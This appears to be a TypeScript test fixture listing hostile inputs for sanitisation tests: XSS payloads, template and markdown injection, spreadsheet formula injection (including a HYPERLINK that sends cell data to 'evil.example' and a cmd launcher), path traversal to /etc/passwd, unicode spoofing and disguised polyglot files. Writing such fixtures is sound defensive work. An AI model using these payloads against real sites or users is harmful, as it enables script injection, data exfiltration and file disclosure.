/**
 * What somebody writes who wants the page to run it, to look like something else, or to break.
 *
 * Each that would run says so in `window.__hit`; each that would fetch asks a host that is not ours.
 */
export interface Hostile {
  readonly family: string;
  readonly text: string;
}

let count = 0;
/** What the next one would run: nothing but a mark, without quotes, so that it fits anywhere. */
const run = (): string => `window.__hit=${(count += 1)}`;
export const foreign = 'evil.example';

const family = (name: string, ...texts: readonly string[]): readonly Hostile[] => texts.map((text) => ({ family: name, text }));

export const hostile: readonly Hostile[] = [
  ...family('script',
    `<script>${run()}</script>`, `"><script>${run()}</script>`, `</title><script>${run()}</script>`, `</textarea><script>${run()}</script>`, `<scr<script>ipt>${run()}</scr</script>ipt>`,
    `<script src=//${foreign}/x.js></script>`, `<script src="data:text/javascript,${run()}"></script>`, `<script type=module>${run()}</script>`, `<!--><script>${run()}</script-->`, `';${run()};//`),
  ...family('handler',
    `<img src=x onerror=${run()}>`, `"><img src=x onerror="${run()}">`, `' onmouseover='${run()}' x='`, `" onfocus="${run()}" autofocus="`, `<body onload=${run()}>`, `<details open ontoggle=${run()}>`, `<input autofocus onfocus=${run()}>`,
    `<video src=x onerror=${run()}>`, `<audio src=x onerror=${run()}>`, `<a onmouseover=${run()}>here</a>`, `<div style="animation-name:x" onanimationstart=${run()}>`, `<IMG/SRC=x/ONERROR=${run()}>`, `<noscript><p title="</noscript><img src=x onerror=${run()}>">`),
  ...family('svg',
    `<svg onload=${run()}>`, `<svg><script>${run()}</script></svg>`, `<svg><animate onbegin=${run()} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${run()}"><text>x</text></a></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${run()}>`, `<svg><foreignObject><iframe srcdoc="<script>parent.${run()}</script>">`, `<svg><use href="data:image/svg+xml,<svg id='x'/>#x">`, `<math href="javascript:${run()}">x</math>`),
  ...family('address',
    `javascript:${run()}`, `JaVaScRiPt:${run()}`, `java\tscript:${run()}`, `data:text/html,<script>${run()}</script>`, 'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19oaXQ9MTwvc2NyaXB0Pg==', 'vbscript:msgbox(1)', `//${foreign}/x`,
    `https://${foreign}/"onmouseover="${run()}`, `https://${foreign}/?q=<script>${run()}</script>`, `<a href="javascript:${run()}">x</a>`, `<iframe src="javascript:parent.${run()}"></iframe>`, `<form action="javascript:${run()}"><button autofocus>x`,
    `<meta http-equiv=refresh content="0;url=//${foreign}">`, `<base href="//${foreign}/">`, `<link rel=stylesheet href=//${foreign}/x.css>`, `<object data="//${foreign}/x.swf"></object>`),
  ...family('markdown',
    `[x](javascript:${run()})`, `![x](https://${foreign}/p.png)`, `![x](x" onerror="${run()})`, `<javascript:${run()}>`, `[x]: javascript:${run()}`, `\`<script>${run()}</script>\``),
  ...family('template',
    `{{constructor.constructor('${run()}')()}}`, `\${${run()}}`, `#{${run()}}`, `<%= ${run()} %>`, `[[\${${run()}}]]`, `{% raw %}<script>${run()}</script>`, "$&$1$`$'", '%s %d %o %c'),
  ...family('style',
    `</style><script>${run()}</script>`, `<style>*{background:url(//${foreign}/x)}</style>`, `;background:url(https://${foreign}/c.png)`, `expression(${run()})`, 'red;}body{display:none}', `<style>@import '//${foreign}/x.css';</style>`),
  ...family('entity',
    `&lt;script&gt;${run()}&lt;/script&gt;`, `&#60;img src=x onerror=${run()}&#62;`, '&amp;lt;b&amp;gt;', '&nbsp;&copy;&#x41;&notanentity;', `\\u003cscript\\u003e${run()}`, `%3Cscript%3E${run()}%3C/script%3E`),
  ...family('unicode',
    'invoice\u202egnp.exe', 'a\u2066isolated\u2069 b', 'zero\u200bwidth\u200d join', 'إسم عربي <b>غامق</b> 42', 'שם עברי (123) abc', '＜ｓｃｒｉｐｔ＞ｗｉｄｅ', 'Z\u0351\u036b\u0343a\u0334l\u0335g\u0337o\u0338', '👩‍👩‍👧‍👦🏴 e\u0301'),
  ...family('message',
    '{count, plural, one {# row} other {# rows}}', '{label} {title} {object}', '{unbalanced', 'unbalanced}', "it's {quoted '{' brace}", `{x, select, other {<script>${run()}</script>}}`, "'{'''}'", '# of #', '<b>{name}</b>'),
  ...family('prototype', '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineSetter__'),
  ...family('long', 'W'.repeat(180), '长'.repeat(120)),
  ...family('formula', `=HYPERLINK("http://${foreign}?x="&A1,"click")`, "=cmd|'/c calc'!A0", "+1+cmd|'/c calc'!A0", '-2+3', '@SUM(1+1)'),
  ...family('path', '../../etc/passwd', '..\\..\\x.svg', '/o/thing/r/../../..', `file.svg?x#<script>${run()}</script>`),
];

/** Nobody can keep these: they are refused with a reason. */
export const refused: readonly string[] = ['a\0b', '\ud800', 'x\udfffy'];

/** Files whose content would run in a page, under names that say otherwise. */
export const files: readonly { readonly name: string; readonly content: string }[] = [
  { name: 'page.png', content: `<!doctype html><script>${run()}</script>` }, { name: 'page.html', content: `<script>${run()}</script>` }, { name: 'picture.svg', content: `<svg xmlns="http://www.w3.org/2000/svg" onload="${run()}"><script>${run()}</script></svg>` },
  { name: 'picture.png', content: `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>${run()}</script></svg>` }, { name: 'page.xhtml', content: `<html xmlns="http://www.w3.org/1999/xhtml"><script>${run()}</script></html>` },
  { name: 'code.js', content: run() }, { name: 'mixed.gif', content: `GIF89a/*<script>${run()}</script>*/=1;${run()}` }, { name: 'style.css', content: `@import '//${foreign}/x.css';` },
];

export const texts: readonly string[] = hostile.map(({ text }) => text);
